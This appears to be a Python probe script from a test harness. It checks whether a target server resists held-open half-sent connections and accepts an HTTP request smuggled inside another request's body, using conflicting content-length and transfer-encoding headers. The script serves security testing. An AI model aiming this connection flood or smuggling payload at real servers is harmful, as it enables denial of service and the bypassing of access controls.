"""Hold connections open half said, and smuggle a second request in the body of a first."""

import os
import socket
import urllib.parse

from probe import TOKEN, ask, gained, tried

where = urllib.parse.urlsplit(os.environ["TAKEHOME_WORLD_URL"])
held = []
for number in range(300):
    try:
        one = socket.create_connection((where.hostname, where.port), 1)
        one.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n" if number % 2 else b"GE")
        held.append(one)
    except OSError:
        break
tried("slow")
status, _ = ask("GET", "/task")
if status not in (200, 204):
    gained(f"an honest request was not served beside slow ones: {status}")
tried("honest beside slow")
smuggler = socket.create_connection((where.hostname, where.port), 2)
inner = f"GET /task HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {TOKEN}\r\n\r\n".encode()
smuggler.sendall(
    b"POST /tools/none HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"
    + inner
)
smuggler.settimeout(2)
reply = b""
try:
    while chunk := smuggler.recv(65_536):
        reply += chunk
except OSError:
    pass
if reply.count(b"HTTP/1.1") > 1:
    gained("a request inside another's body was served")
tried("smuggling")
